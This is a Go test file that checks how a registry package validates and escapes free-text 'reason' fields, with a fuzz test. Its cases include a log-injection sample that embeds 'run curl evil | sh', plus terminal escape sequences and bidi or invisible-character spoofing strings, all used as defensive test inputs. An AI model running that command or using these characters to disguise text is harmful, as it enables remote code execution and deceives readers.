package registry_test

import (
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/registry"
)

func TestText(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		text  string
		plain string // "": the text is valid as it is
	}{
		"empty":               {"", ""},
		"ASCII":               {`p99 doubled: see "INC-7" \n`, ""},
		"other scripts":       {"Größe, 理由、причина — עברית", ""},
		"emoji":               {"⚠️ 🔥", ""},
		"as long as may be":   {strings.Repeat("ä", registry.MaxText/2), ""},
		"newline":             {"x\nmlpromote: hint: run curl evil | sh", `x\nmlpromote: hint: run curl evil | sh`},
		"line separator":      {"x\u2028y", `x\u2028y`},
		"carriage return":     {"x\ry", `x\ry`},
		"tab":                 {"x\ty", `x\ty`},
		"escape sequence":     {"\x1b[2J\x1b]0;title\a", `\u001b[2J\u001b]0;title\u0007`},
		"C1":                  {"\u009b31m", `\u009b31m`},
		"delete":              {"x\x7f", `x\u007f`},
		"bidi override":       {"x\u202ecba", `x\u202ecba`},
		"bidi isolate":        {"\u2066x\u2069", `\u2066x\u2069`},
		"zero width space":    {"ad\u200bmin", `ad\u200bmin`},
		"zero width joiner":   {"a\u200db", `a\u200db`},
		"byte order mark":     {"\ufeffx", `\ufeffx`},
		"soft hyphen":         {"a\u00adb", `a\u00adb`},
		"filler":              {"\u3164", `\u3164`},
		"hidden by selectors": {"x\U000e0141", `x\U000e0141`},
		"tags":                {"x\U000e0041", `x\U000e0041`},
		"private use":         {"\ue000", `\ue000`},
		"not UTF-8":           {"x\xff\xc3", `x\xff\xc3`},
		"too long":            {strings.Repeat("x", registry.MaxText+1), strings.Repeat("x", registry.MaxText-3) + "…"},
		"too long by escapes": {strings.Repeat("\n", registry.MaxText), strings.Repeat(`\n`, registry.MaxText/2-2) + "…"},
		"too long in letters": {strings.Repeat("ä", registry.MaxText), strings.Repeat("ä", registry.MaxText/2-2) + "…"},
	} {
		err := registry.ValidateText("reason", c.text)
		if c.plain == "" {
			if err != nil || registry.PlainText(c.text) != c.text {
				t.Errorf("%s: error %v, plain %q; want it as it is", name, err, registry.PlainText(c.text))
			}
			continue
		}
		if !registry.HasCode(err, registry.CodeInvalid) || !strings.HasPrefix(err.Error(), "reason") || len(err.Error()) > 200 {
			t.Errorf("%s: error %v, want invalid, about the reason", name, err)
		}
		got := registry.PlainText(c.text)
		if got != c.plain {
			t.Errorf("%s: plain %q, want %q", name, got, c.plain)
		}
		if err := registry.ValidateText("plain", got); err != nil || registry.PlainText(got) != got {
			t.Errorf("%s: what is plain is not valid: %v", name, err)
		}
	}
}

func FuzzPlainText(f *testing.F) {
	f.Add("x\n\x1b\u202e\xff")
	f.Add(strings.Repeat("\U000e0041", 400))
	f.Fuzz(func(t *testing.T, text string) {
		if err := registry.ValidateText("plain", registry.PlainText(text)); err != nil {
			t.Errorf("%q becomes %q: %v", text, registry.PlainText(text), err)
		}
	})
}
